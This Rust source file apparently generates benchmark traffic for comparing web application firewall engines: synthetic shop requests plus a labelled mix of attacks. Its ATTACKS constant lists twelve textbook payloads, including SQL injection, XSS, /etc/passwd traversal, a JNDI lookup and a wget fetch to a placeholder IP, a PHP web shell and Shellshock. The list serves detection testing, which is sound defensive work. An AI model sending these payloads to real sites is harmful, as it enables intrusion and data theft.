//! The four workloads that engines are compared with: what browsers send to a shop, and a mix with
//! textbook attacks in it. Nobody's data, nothing to find in the benign ones at any paranoia level
//! that a shop would use.

use serde_json::{Value, json};
use waf_core::parse::head::RequestHead;
use waf_corpus::{Label, Request};

use crate::random::Random;

/// Requests that are run one after the other.
#[derive(Debug)]
pub struct Workload {
    /// Its name in tables.
    pub name: &'static str,
    /// The requests; an attack has the label.
    pub requests: Vec<Request>,
}

/// All four.
pub fn all() -> Vec<Workload> {
    let mut shop = Shop(Random::new(20_260_101));
    let mut many = |count: usize, make: fn(&mut Shop) -> Request| -> Vec<Request> {
        (0..count).map(|_| make(&mut shop)).collect()
    };
    let (get, form, json) = (many(200, Shop::get), many(200, Shop::form), many(100, Shop::json));
    let mut mixed = many(300, Shop::get);
    mixed.extend(many(110, Shop::form));
    mixed.extend(many(40, Shop::json));
    mixed.extend(many(10, |shop| shop.upload(20 * 1024)));
    mixed.extend(many(40, Shop::attack));
    shop.0.shuffle(&mut mixed);
    vec![
        Workload { name: "GET", requests: get },
        Workload { name: "form 1 KB", requests: form },
        Workload { name: "JSON 10 KB", requests: json },
        Workload { name: "mixed", requests: mixed },
    ]
}

/// What proxies are loaded with: the benign ones, uploads of 1 MiB, and attacks.
pub fn proxied() -> Vec<Workload> {
    let mut shop = Shop(Random::new(20_260_102));
    let mut workloads = all();
    workloads.truncate(3);
    let uploads = (0..4).map(|_| shop.upload(1 << 20)).collect();
    workloads.push(Workload { name: "upload 1 MB", requests: uploads });
    let attacks = (0..40).map(|_| shop.attack()).collect();
    workloads.push(Workload { name: "attack", requests: attacks });
    workloads
}

/// Attacks as textbooks have them; each is caught at paranoia 1 of every Core Rule Set of version 4.
const ATTACKS: [&str; 12] = [
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    ";cat /etc/passwd",
    "$(wget http://203.0.113.7/x.sh)",
    "${jndi:ldap://203.0.113.7/a}",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "javascript:alert(1)",
    "() { :;}; /bin/bash -c 'id'",
];

const WORDS: [&str; 64] = [
    "garden",
    "kitchen",
    "window",
    "river",
    "yellow",
    "bicycle",
    "teapot",
    "lantern",
    "mountain",
    "winter",
    "summer",
    "harvest",
    "letter",
    "paper",
    "blanket",
    "copper",
    "silver",
    "wooden",
    "little",
    "bright",
    "quiet",
    "morning",
    "evening",
    "journey",
    "station",
    "market",
    "bread",
    "butter",
    "apple",
    "orange",
    "lemon",
    "cherry",
    "basil",
    "ginger",
    "pepper",
    "coffee",
    "breakfast",
    "dinner",
    "library",
    "notebook",
    "pencil",
    "ribbon",
    "button",
    "pocket",
    "jacket",
    "sweater",
    "scarf",
    "basket",
    "candle",
    "mirror",
    "carpet",
    "cushion",
    "delivery",
    "address",
    "parcel",
    "courier",
    "weekend",
    "holiday",
    "family",
    "children",
    "music",
    "concert",
    "castle",
    "harbour",
];
const FIRST: [&str; 10] =
    ["Anna", "Bruno", "Clara", "David", "Elena", "Felix", "Greta", "Hugo", "Ida", "Jonas"];
const LAST: [&str; 8] =
    ["Keller", "Moreno", "Jensen", "Novak", "Fischer", "Rossi", "Dubois", "Larsen"];
const HEX: &str = "0123456789abcdef";
const ALPHANUMERIC: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

const BROWSERS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
];

/// What a browser asks for, and how it says so.
#[derive(Clone, Copy)]
struct Kind {
    accept: &'static str,
    mode: &'static str,
    destination: &'static str,
}

const PAGE: Kind = Kind {
    accept: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    mode: "navigate",
    destination: "document",
};
const STYLE: Kind = Kind { accept: "text/css,*/*;q=0.1", mode: "no-cors", destination: "style" };
const IMAGE: Kind = Kind {
    accept: "image/avif,image/webp,image/apng,image/*,*/*;q=0.8",
    mode: "no-cors",
    destination: "image",
};
const DATA: Kind =
    Kind { accept: "application/json, text/plain, */*", mode: "cors", destination: "empty" };

/// Makes requests.
struct Shop(Random);

impl Shop {
    fn word(&mut self) -> &'static str {
        self.0.pick(&WORDS)
    }

    fn words(&mut self, count: usize) -> String {
        let words: Vec<&str> = (0..count).map(|_| self.word()).collect();
        words.join(" ")
    }

    fn sentence(&mut self) -> String {
        let count = self.0.within(6, 14);
        let text = self.words(count);
        let end = self.0.pick(&[".", ".", ".", "!", "?"]);
        format!("{}{}{end}", text[..1].to_uppercase(), &text[1..])
    }

    fn number(&mut self, digits: u32) -> String {
        let most = 10_usize.pow(digits);
        self.0.within(most / 10, most - 1).to_string()
    }

    fn cookie(&mut self) -> String {
        let mut cookies = vec![
            format!("session={}", self.0.text(HEX, 32)),
            format!("_ga=GA1.1.{}.{}", self.number(9), 1_700_000_000 + self.0.below(9_999_999)),
            "lang=en".to_owned(),
            format!("theme={}", self.0.pick(&["light", "dark"])),
            format!("cart={}", self.0.text(ALPHANUMERIC, 16)),
        ];
        cookies.truncate(self.0.within(2, 5));
        cookies.join("; ")
    }

    fn headers(&mut self, kind: Kind) -> Vec<(&'static str, String)> {
        let browser = self.0.pick(&BROWSERS);
        let mut headers = vec![("Host", "shop.example.com".to_owned())];
        if browser.contains("Chrome") {
            let brands =
                "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"";
            headers.push(("sec-ch-ua", brands.to_owned()));
            headers.push(("sec-ch-ua-mobile", "?0".to_owned()));
            headers.push(("sec-ch-ua-platform", "\"Windows\"".to_owned()));
        }
        let languages = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "fr,en;q=0.8"];
        let from = match self.0.below(3) {
            0 => String::new(),
            1 => format!("category/{}", self.word()),
            _ => format!("search?q={}", self.word()),
        };
        headers.extend([
            ("User-Agent", browser.to_owned()),
            ("Accept", kind.accept.to_owned()),
            ("Accept-Language", self.0.pick(&languages).to_owned()),
            ("Accept-Encoding", "gzip, deflate, br".to_owned()),
            ("Referer", format!("https://shop.example.com/{from}")),
            ("Cookie", self.cookie()),
            ("Sec-Fetch-Site", "same-origin".to_owned()),
            ("Sec-Fetch-Mode", kind.mode.to_owned()),
            ("Sec-Fetch-Dest", kind.destination.to_owned()),
            ("Connection", "keep-alive".to_owned()),
        ]);
        if kind.destination == "document" {
            headers.push(("Upgrade-Insecure-Requests", "1".to_owned()));
        }
        headers
    }

    fn get(&mut self) -> Request {
        let (target, kind) = match self.0.below(20) {
            0..6 => {
                let sort = self.0.pick(&["price", "newest", "rating"]);
                let (word, page) = (self.word(), self.0.within(1, 20));
                (format!("/category/{word}?page={page}&sort={sort}"), PAGE)
            }
            6..10 => (format!("/product/{}/{}-{}", self.number(4), self.word(), self.word()), PAGE),
            10..13 => {
                let count = self.0.within(1, 3);
                (format!("/search?q={}&in=all", self.words(count).replace(' ', "+")), PAGE)
            }
            13..16 => (format!("/assets/shop.{}.css", self.0.text(HEX, 8)), STYLE),
            16..19 => {
                let width = self.0.pick(&["320", "640", "1280"]);
                (format!("/img/{}/{}.webp?w={width}", self.number(4), self.word()), IMAGE)
            }
            _ => (format!("/api/v1/cart/items?limit=25&offset={}", self.0.below(4) * 25), DATA),
        };
        request("GET", &target, self.headers(kind))
    }

    fn post(&mut self, target: &str, kind: Kind, content_type: &str, body: Vec<u8>) -> Request {
        let mut headers = self.headers(kind);
        headers.push(("Origin", "https://shop.example.com".to_owned()));
        headers.push(("Content-Type", content_type.to_owned()));
        headers.push(("Content-Length", body.len().to_string()));
        Request { body, ..request("POST", target, headers) }
    }

    fn form(&mut self) -> Request {
        let (first, last) = (self.0.pick(&FIRST), self.0.pick(&LAST));
        let mut fields = vec![
            ("first_name", first.to_owned()),
            ("last_name", last.to_owned()),
            ("email", format!("{first}.{last}@example.com").to_lowercase()),
            ("street", format!("Street of the {} {}", self.word(), self.number(2))),
            ("zip", self.number(5)),
            ("city", format!("{}ville", self.word())),
            ("country", self.0.pick(&["DE", "FR", "IT", "ES"]).to_owned()),
            ("phone", format!("+49 30 {}", self.number(7))),
            ("csrf_token", self.0.text(HEX, 40)),
            ("newsletter", self.0.pick(&["on", "off"]).to_owned()),
            ("payment", self.0.pick(&["card", "invoice"]).to_owned()),
            ("subject", self.words(4)),
        ];
        let mut message = self.sentence();
        while encode(&fields).len() + message.len() < 1_000 {
            message = format!("{message} {}", self.sentence());
        }
        fields.push(("message", message));
        self.post_form("/account/contact", &fields)
    }

    fn post_form(&mut self, target: &str, fields: &[(&str, String)]) -> Request {
        self.post(target, PAGE, "application/x-www-form-urlencoded", encode(fields).into_bytes())
    }

    fn item(&mut self) -> Value {
        let tags: Vec<&str> = (0..self.0.within(1, 4)).map(|_| self.word()).collect();
        let price = self.0.within(100, 20_000) as f64 / 100.0;
        let note = (self.0.below(5) < 3).then(|| self.sentence());
        json!({
            "id": self.0.within(10_000, 99_999),
            "sku": format!("{}-{}", self.word(), self.0.text(HEX, 4)),
            "name": self.words(3),
            "quantity": self.0.within(1, 9),
            "price": price,
            "in_stock": self.0.below(5) > 0,
            "tags": tags,
            "note": note,
        })
    }

    fn json(&mut self) -> Request {
        let (mut items, mut length) = (Vec::new(), 300);
        while length < 10_240 {
            let item = self.item();
            length += item.to_string().len() + 1;
            items.push(item);
        }
        let name = format!("{} {}", self.0.pick(&FIRST), self.0.pick(&LAST));
        let cart = json!({
            "cart_id": self.0.text(HEX, 24),
            "customer": {"name": name, "email": "anna.keller@example.com", "loyal": true},
            "shipping": {"street": "River Street 12", "city": "Springville", "zip": "10437"},
            "items": items,
        });
        self.post("/api/v1/cart/update", DATA, "application/json", cart.to_string().into_bytes())
    }

    fn upload(&mut self, length: usize) -> Request {
        let boundary = format!("----WebKitFormBoundary{}", self.0.text(ALPHANUMERIC, 16));
        let mut body = format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{}\r\n\
             --{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; \
             filename=\"photo-{}.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n",
            self.words(4),
            self.number(3)
        )
        .into_bytes();
        body.extend((0..length).map(|_| self.0.below(256) as u8));
        body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
        let content_type = format!("multipart/form-data; boundary={boundary}");
        self.post("/account/photo", PAGE, &content_type, body)
    }

    fn attack(&mut self) -> Request {
        let attack = self.0.pick(&ATTACKS);
        let request = if self.0.below(2) == 0 {
            let headers = self.headers(PAGE);
            request("GET", &format!("/search?q={}", percent(attack, "%20")), headers)
        } else {
            let token = self.0.text(HEX, 40);
            let fields = [
                ("user", "anna".to_owned()),
                ("comment", attack.to_owned()),
                ("csrf_token", token),
            ];
            self.post_form("/account/comment", &fields)
        };
        Request { label: Some(Label::Attack), ..request }
    }
}

fn request(method: &str, target: &str, headers: Vec<(&str, String)>) -> Request {
    let headers = headers.into_iter().map(|(name, value)| (name.into(), value.into_bytes()));
    let head = RequestHead::from_parts(method, target, "HTTP/1.1", headers.collect());
    Request { head, ..Request::default() }
}

fn encode(fields: &[(&str, String)]) -> String {
    let fields = fields.iter().map(|(name, value)| format!("{name}={}", percent(value, "+")));
    fields.collect::<Vec<_>>().join("&")
}

/// As forms and queries are encoded.
fn percent(text: &str, blank: &str) -> String {
    let byte = |byte: u8| match byte {
        b' ' => blank.to_owned(),
        _ if byte.is_ascii_alphanumeric() || b"-_.".contains(&byte) => char::from(byte).to_string(),
        _ => format!("%{byte:02X}"),
    };
    text.bytes().map(byte).collect()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "tests")]
mod tests {
    use super::*;

    fn counts(workload: &Workload) -> (usize, usize) {
        let is_attack = |request: &&Request| request.label == Some(Label::Attack);
        (workload.requests.len(), workload.requests.iter().filter(is_attack).count())
    }

    #[test]
    fn workloads_are_what_they_are_called() {
        let workloads = all();
        let counted: Vec<_> = workloads.iter().map(counts).collect();
        assert_eq!(counted, [(200, 0), (200, 0), (100, 0), (500, 40)]);
        for request in &workloads[1].requests {
            assert!((1_000..1_200).contains(&request.body.len()), "{}", request.body.len());
        }
        for request in &workloads[2].requests {
            assert!((10_000..10_900).contains(&request.body.len()), "{}", request.body.len());
            let values = leaves(&serde_json::from_slice(&request.body).unwrap());
            assert!((400..600).contains(&values), "{values}");
        }
    }

    fn leaves(value: &Value) -> usize {
        match value {
            Value::Array(list) => list.iter().map(leaves).sum(),
            Value::Object(members) => members.values().map(leaves).sum(),
            _ => 1,
        }
    }
}
